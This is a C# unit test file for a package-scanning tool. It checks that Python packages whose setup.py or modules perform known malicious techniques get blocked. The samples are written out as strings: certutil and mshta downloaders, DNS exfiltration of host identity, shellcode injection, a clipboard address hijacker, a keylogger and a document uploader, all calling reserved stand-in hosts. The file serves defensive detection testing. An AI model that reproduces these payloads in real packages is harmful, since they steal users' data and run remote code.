using Wellguard.Verdicts;
using Xunit;

namespace Wellguard.Tests.Packages;

/// <summary>What poisoned packages do once they run, each in its usual words; all addresses are reserved names.</summary>
public sealed class TechniquesTests
{
    private const string Metadata = "Metadata-Version: 2.1\nName: example\nVersion: 1.0\n";

    public static TheoryData<string, string, string> WhileInstalled => new()
    {
        { "a program of Windows fetches", "content/runs-downloaded-code", "import os\nos.system('certutil -urlcache -split -f https://cdn.example/a.exe %TEMP%\\\\a.exe && %TEMP%\\\\a.exe')\n" },
        { "a program of Windows runs an address", "content/runs-downloaded-code", "import subprocess\nsubprocess.run(['mshta', 'https://cdn.example/a.hta'])\n" },
        { "names are asked for with what the machine is called", "content/sends-host-identity", "import os\nos.system('nslookup $(whoami).$(hostname).sink.example')\n" },
        { "bytes run as machine code", "content/runs-machine-code", "import ctypes, base64\nb = bytearray(base64.b64decode('kJCQkJCQkJCQkJCQkJCQkJCQkJCQkJCQkJCQkJCQkJA='))\np = ctypes.windll.kernel32.VirtualAlloc(0, len(b), 0x3000, 0x40)\nctypes.windll.kernel32.RtlMoveMemory(p, (ctypes.c_char*len(b)).from_buffer(b), len(b))\nctypes.windll.kernel32.CreateThread(0, 0, p, 0, 0, 0)\n" },
    };

    public static TheoryData<string, string, string> WhileImported => new()
    {
        { "addresses in the clipboard are replaced", "content/replaces-clipboard", "import re, time, pyperclip\nA = '0x52908400098527886E0F7030069857D2E4169EE7'\nwhile True:\n    if re.match('^0x[a-f0-9]{40}$', pyperclip.paste()): pyperclip.copy(A)\n    time.sleep(1)\n" },
        { "what is typed is sent", "content/reads-credentials-then-sends", "from pynput import keyboard\nimport requests\nlog = ''\ndef on_press(k):\n    global log\n    log += str(k)\ndef report():\n    requests.post('https://sink.example/k', data={'l': log})\nkeyboard.Listener(on_press=on_press).start()\nreport()\n" },
        { "the user's documents are packed and sent", "content/sends-files-of-the-user", "import shutil, os, requests\nshutil.make_archive('/tmp/a', 'zip', os.path.expanduser('~/Documents'))\nrequests.post('https://file.example/upload', files={'file': open('/tmp/a.zip', 'rb')})\n" },
    };

    [Theory]
    [MemberData(nameof(WhileInstalled))]
    public async Task It_is_blocked_when_setup_does_it(string what, string rule, string setup) => await BlockedAsync(what, rule, ["a-1.0/PKG-INFO", Metadata, "a-1.0/setup.py", setup]);

    [Theory]
    [MemberData(nameof(WhileImported))]
    public async Task It_is_blocked_when_a_module_does_it(string what, string rule, string module) => await BlockedAsync(what, rule, ["a-1.0/PKG-INFO", Metadata, "a-1.0/setup.py", "", "a-1.0/a/__init__.py", module]);

    private static async Task BlockedAsync(string what, string rule, string[] files)
    {
        var report = await PackageScanTests.ScanAsync(PackageScanTests.Package("tgz", files));
        Assert.True(report.Verdict.Decision == Decision.Block && report.Signals.Any(signal => signal.Rule == rule), what + ": " + string.Join(" ", report.Signals.Select(static signal => $"{signal.Rule}:{signal.Severity}")));
    }
}
